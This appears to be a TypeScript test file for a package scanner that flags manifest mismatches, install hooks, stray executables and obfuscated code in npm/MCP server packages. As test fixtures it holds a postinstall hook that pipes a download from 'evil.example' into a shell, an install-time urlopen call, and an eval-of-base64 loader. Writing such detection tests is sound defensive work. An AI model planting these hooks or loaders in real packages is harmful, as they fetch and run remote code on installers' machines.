// Whole-package checks (src/core/scan/package-check.ts): manifests that agree, and the marks of malware.
import { describe, expect, it } from "vitest";
import { checkPackage, obfuscation, type PackageFile } from "../../src/core/scan/package-check.ts";

const encoder = new TextEncoder();
const files = (entries: Record<string, string | Uint8Array>): PackageFile[] =>
  Object.entries(entries).map(([path, content]) => ({
    path,
    bytes: typeof content === "string" ? encoder.encode(content) : content,
  }));
const rules = (entries: Record<string, string | Uint8Array>) =>
  checkPackage(files(entries)).map(
    (f) => `${f.ruleId} ${f.location.type === "file" ? `${f.location.path}:${f.location.line}` : ""}`,
  );

const packageJson = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: "@acme/mcp-files", version: "1.2.0", main: "index.js", ...extra }, null, 2);
const serverJson = (identifier: string, version: string) =>
  JSON.stringify(
    { name: "io.github.acme/files", version, packages: [{ registryType: "npm", identifier, version }] },
    null,
    2,
  );

describe("checkPackage", () => {
  it("finds nothing in a clean package whose registry entry matches it", () => {
    expect(
      rules({
        "package/package.json": packageJson({ scripts: { test: "node --test" } }),
        "package/index.js": "export {};\n",
        "package/server.json": serverJson("@acme/mcp-files", "1.2.0"),
      }),
    ).toEqual([]);
  });

  it("flags an install hook that pipes a download into a shell, on the hook's line", () => {
    const found = rules({
      "package/package.json": packageJson({
        scripts: { postinstall: "curl -fsSL https://evil.example/x.sh | sh" },
      }),
      "package/index.js": "export {};\n",
    });
    expect(found).toEqual(["package-install-script package/package.json:6"]);
    expect(
      rules({ "setup.py": "import urllib.request\nurllib.request.urlopen('https://x.example/p')\n" }),
    ).toEqual(["package-install-script setup.py:1"]);
  });

  it("flags a registry entry for another package or version, and a missing entry point when nothing builds it", () => {
    expect(
      rules({
        "package.json": packageJson(),
        "server.json": serverJson("@acme/mcp-filez", "1.3.0"),
      }).sort(),
    ).toEqual([
      "package-manifest-invalid package.json:4",
      "package-manifest-mismatch server.json:7",
      "package-manifest-mismatch server.json:7",
    ]);
    // A build script makes dist/ the build's job.
    expect(
      rules({ "package.json": packageJson({ main: "dist/index.js", scripts: { build: "tsc" } }) }),
    ).toEqual([]);
  });

  it("flags executables outside the places native code lives, and obfuscated payloads", () => {
    const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    expect(rules({ "src/helper": elf, "prebuilds/linux-x64/addon.node": elf })).toEqual([
      "package-unexpected-binary src/helper:1",
    ]);
    const payload = `const p = "${"QUJD".repeat(600)}";\neval(Buffer.from(p, "base64").toString());\n`;
    expect(rules({ "lib/loader.js": payload })).toEqual(["package-obfuscated-code lib/loader.js:1"]);
  });

  it("leaves ordinary long data alone and names obfuscator output", () => {
    expect(obfuscation(`export const ICON = "${"QUJD".repeat(600)}";\n`)).toBeNull();
    const mangled = Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join(
      "\n",
    );
    expect(obfuscation(mangled)).toBe("uses 25 obfuscator-made names (_0x…)");
  });
});
